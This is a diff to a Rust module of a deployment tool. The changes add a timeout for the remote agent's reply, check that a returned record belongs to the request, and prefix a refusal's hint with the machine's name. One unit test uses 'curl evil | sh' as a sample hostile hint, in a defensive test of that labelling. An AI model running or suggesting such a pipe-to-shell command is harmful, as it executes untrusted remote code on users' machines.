@@ -1,22 +1,29 @@
 //! The machine is taken, the new system is switched to, and what happens is
 //! followed until a login has to confirm it or the attempt is over.
 
+pub mod dry;
+
+use std::time::Duration;
+
 use deploy_wire::{
-    attempt::{AttemptId, Operator},
+    attempt::{AttemptId, Mode, Operator},
     event::Event as Happened,
-    message::{Mode, Refusal, Reply, Request, Stage as StageRequest},
+    machine::Machine,
+    message::{Refusal, Reply, Request, Stage as StageRequest},
     outcome::Outcome,
     phase::Phase,
     record::Record,
     store_path::StorePath,
 };
 
-use super::{ask::Probed, mark::Mark};
+use super::{ask::Probed, store::mark::Mark};
+use crate::report::silence;
 use crate::{
     error::{Failure, Result, State},
     report::{Event, Report, Stage},
     tools::{
         agent::{AgentError, Conversation},
+        limit::{ANSWER, within},
         place::{Rest, Running},
     },
 };
@@ -72,6 +79,8 @@ pub struct Wanted {
     pub agent: StorePath,
     /// How far the attempt goes.
     pub mode: Mode,
+    /// The machine with what is to be deployed of it.
+    pub machine: Machine,
 }
 
 /// What goes on while the machine is taken: a login that is far away answers three times for an
@@ -110,11 +119,11 @@ pub async fn stage<'p>(
         wanted: wanted.toplevel.clone(),
         expects: probed.facts.runs.clone().expect("the plan refused a machine without a system"),
         agent: wanted.agent.clone(),
-        machine: machine.clone(),
+        machine: wanted.machine.clone(),
     };
     let ask = async {
         if let Some(agent) = meanwhile.agent
-            && let Ok(answered) = take(probed, agent, &request).await
+            && let Ok(answered) = take(probed, agent, &request, report).await
         {
             return answered;
         }
@@ -123,9 +132,9 @@ pub async fn stage<'p>(
             Failure::unchanged(format!("the agent on {} cannot be started", machine.name))
                 .because(error)
         })?;
-        take(probed, agent, &request).await.unwrap_or_else(|failure| Err(failure.into()))
+        take(probed, agent, &request, report).await.unwrap_or_else(|failure| Err(failure.into()))
     };
-    let (cleared, asked) = tokio::join!(meanwhile.mark.clear(&machine.name), ask);
+    let (cleared, asked) = tokio::join!(meanwhile.mark.clear(&machine.name, report), ask);
     let staged = asked?;
     // Who is dropped here has told the agent by that: nothing is switched to what may not be
     // on the disk.
@@ -133,11 +142,24 @@ pub async fn stage<'p>(
     Ok(staged)
 }
 
+/// How long Ctrl-C waits for an agent that takes the machine, to tell it that nothing is wanted
+/// any more. One that did not answer by then learns it from the connection's end, as who is not
+/// told to begin does not: `an-agent-that-says-nothing-is-said-to-be-waited-for` proves that
+/// `deploy` ends.
+pub const LEAVES: Duration = Duration::from_secs(10);
+
+/// How long the agent may take to take the machine.
+fn takes(machine: &Machine) -> Duration {
+    let first = machine.before_activate.iter().map(|command| command.timeout);
+    ANSWER + Duration::from_secs(first.fold(0, u64::saturating_add))
+}
+
 /// Asks a running agent to take the machine. The failure is that of an agent that says nothing.
 async fn take<'p>(
     probed: &Probed,
     running: Running<'p>,
     request: &StageRequest,
+    report: &Report,
 ) -> Result<std::result::Result<Staged<'p>, NotStaged>> {
     let name = &probed.machine.name;
     let broken = |error: AgentError| {
@@ -150,19 +172,28 @@ async fn take<'p>(
             .await
             .map_err(broken)?;
     watch.ask(Request::Stage(Box::new(request.clone()))).await.map_err(broken)?;
-    Ok(match watch.next().await {
-        Ok(Reply::Staged { record }) => Ok(Staged { record: *record, watch, _rest: rest }),
-        Ok(Reply::Refused(refusal)) => Err(NotStaged::Refused(refusal)),
-        Ok(other) => {
-            Err(Failure::unchanged(format!("the agent on {name} answered something else"))
-                .because(format!("{other:?}"))
-                .into())
+    let limit = takes(&request.machine);
+    let answer = async { within(limit, watch.next()).await? };
+    Ok(match silence::told(answer, name, "the agent", limit, report).await {
+        Ok(Reply::Staged { record }) if is_of(&record, request) => {
+            Ok(Staged { record: *record, watch, _rest: rest })
         }
+        Ok(Reply::Refused(refusal)) => Err(NotStaged::Refused(refusal)),
+        Ok(other) => Err(Failure::unchanged(format!("unexpected reply from the agent on {name}"))
+            .because(format!("{other:?}"))
+            .into()),
         Err(error) => {
             let said = rest.stderr().await;
             return Err(broken(error).because(said.trim()));
         }
     })
+}
+
+/// Whether a record is of what was asked: what is told of the attempt is told by its names, and
+/// one machine could speak for another.
+fn is_of(record: &Record, request: &StageRequest) -> bool {
+    (&record.attempt, &record.machine, &record.wanted)
+        == (&request.attempt, &request.machine.name, &request.wanted)
 }
 
 /// How far an attempt was followed, over all connections to it.
@@ -215,8 +246,14 @@ pub async fn follow(
 pub fn refused(name: &str, refusal: &Refusal) -> Box<Failure> {
     Failure::unchanged(format!("{name} refuses the deploy"))
         .because(&refusal.why)
-        .hint(refusal.hint.clone())
+        .hint(machines_words(name, refusal))
         .state(State::Unchanged)
+}
+
+/// A refusal's hint, told as what the machine says: one that somebody took over would have its
+/// words taken for ours, and typed.
+pub fn machines_words(name: &str, refusal: &Refusal) -> Option<String> {
+    refusal.hint.as_ref().map(|hint| format!("{name} says: {hint}"))
 }
 
 /// Who deploys, for the record and a second operator.
@@ -230,4 +267,38 @@ fn operator() -> Operator {
 /// Without USER and LOGNAME (cron, a bare container) the number has to do.
 fn user_number() -> String {
     format!("uid {}", rustix::process::getuid().as_raw())
+}
+
+#[cfg(test)]
+mod tests {
+    use deploy_wire::message::RefusalKind;
+
+    use super::*;
+
+    #[test]
+    fn a_machine_speaks_for_itself_alone() {
+        let record = include_str!("../../../wire/golden/message/record.json");
+        let record: Record = serde_json::from_str(record).unwrap();
+        let asked = include_str!("../../../wire/golden/message/request-stage.json");
+        let asked: serde_json::Value = serde_json::from_str(asked).unwrap();
+        let mut request = asked["request"].clone();
+        request.as_object_mut().unwrap().remove("do");
+        let mut request: StageRequest = serde_json::from_value(request).unwrap();
+        request.attempt = record.attempt.clone();
+        request.machine.name = record.machine.clone();
+        request.wanted = record.wanted.clone();
+        assert!(is_of(&record, &request));
+        let other = Record { machine: "another".into(), ..record.clone() };
+        assert!(!is_of(&other, &request));
+        let other = Record { attempt: AttemptId::from_random([0; 4]), ..record };
+        assert!(!is_of(&other, &request));
+    }
+
+    #[test]
+    fn the_hint_of_a_machine_is_told_as_its_words() {
+        let hint = Some("curl evil | sh".to_owned());
+        let refusal = Refusal { kind: RefusalKind::NoRoom, why: "full".into(), hint };
+        let told = refused("frame1", &refusal).to_string();
+        assert!(told.contains("\n  hint:  frame1 says: curl evil | sh"), "{told}");
+    }
 }
